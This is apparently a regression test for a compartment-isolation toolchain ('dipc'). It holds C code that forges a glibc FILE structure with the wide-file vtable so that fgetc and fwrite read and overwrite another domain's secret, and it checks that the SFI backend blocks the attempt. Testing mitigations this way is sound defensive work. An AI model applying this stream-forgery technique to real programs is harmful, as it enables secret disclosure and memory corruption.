// glibc checks only that a stream's vtable is one of its own. `evil`
// forges a FILE in its own memory (an attack round's) with the wide file
// vtable, byte orientation (so the loader's FILE check skipped the wide
// state) and a `_wide_data` whose buffers are vault's secret: fgetc read
// the secret 4 bytes at a time (`read`), fwrite copied wide characters
// over it (`write`). Under `sfi` a stream's vtable must be one libc gives
// the byte streams it makes (learnt at start, loader/sfi_streams.c) and
// the stream must not be wide: the call faults, DIPC_EFAULT (14).
// Control: under `none` the forged stream reads and writes the secret.
// RUN: %dipc-clang -fdipc -fdipc-sfi -O2 %s -o %t
// RUN: %dipc-bin-dir/dipc-run --backend=sfi %t read 2>&1 | FileCheck %s --check-prefix=STOPPED
// RUN: %dipc-bin-dir/dipc-run --backend=sfi %t write 2>&1 | FileCheck %s --check-prefix=STOPPED
// RUN: %dipc-bin-dir/dipc-run --backend=none %t read 2>&1 | FileCheck %s --check-prefix=STOLEN
// RUN: %dipc-bin-dir/dipc-run --backend=none %t write 2>&1 | FileCheck %s --check-prefix=CHANGED
// STOPPED: attack returned 0, dipc_errno 14
// STOPPED-NEXT: nothing stolen
// STOPPED-NEXT: vault's secret unchanged
// STOLEN: stole 'vault-secret-42'
// CHANGED: vault's secret changed
#include "Inputs/vault-sum.h"

#include <wchar.h>

// glibc 2.36's struct _IO_wide_data: its buffer pointers first.
struct wide_data {
  wchar_t *read_ptr, *read_end, *read_base, *write_base, *write_ptr,
      *write_end, *buf_base, *buf_end, *save_base, *backup_base, *save_end;
  char rest[512];
};

static struct {
  FILE file;
  const void *vtable; // struct _IO_FILE_plus
} forged __dom("evil");
static struct wide_data wide __dom("evil");

long attack(const char *mode, void *aux, const volatile char *secret, int key,
            char *loot) {
  (void)aux, (void)key;
  memset(&forged, 0, sizeof forged);
  memset(&wide, 0, sizeof wide);
  forged.file._flags = (int)(0xfbad0000u | 0x8000); // _IO_USER_LOCK
  forged.file._wide_data = (void *)&wide;
  forged.vtable = dlsym(RTLD_DEFAULT, "_IO_wfile_jumps");
  if (!strcmp(mode, "read")) {
    wide.read_ptr = wide.read_base = (wchar_t *)secret;
    wide.read_end = (wchar_t *)(secret + 32);
    for (int i = 0; i < 8; ++i) {
      forged.file._mode = 0;
      int c = fgetc(&forged.file);
      memcpy(loot + 4 * i, &c, 4);
    }
    loot[31] = 0;
    return 1;
  }
  wide.write_base = wide.write_ptr = (wchar_t *)secret;
  wide.write_end = (wchar_t *)(secret + 16);
  const wchar_t junk[4] = {'P', 'W', 'N', 0};
  return (long)fwrite(junk, 1, 3, &forged.file);
}

int main(int argc, char **argv) {
  return run_write_attack(argc > 1 ? argv[1] : "read", NULL);
}
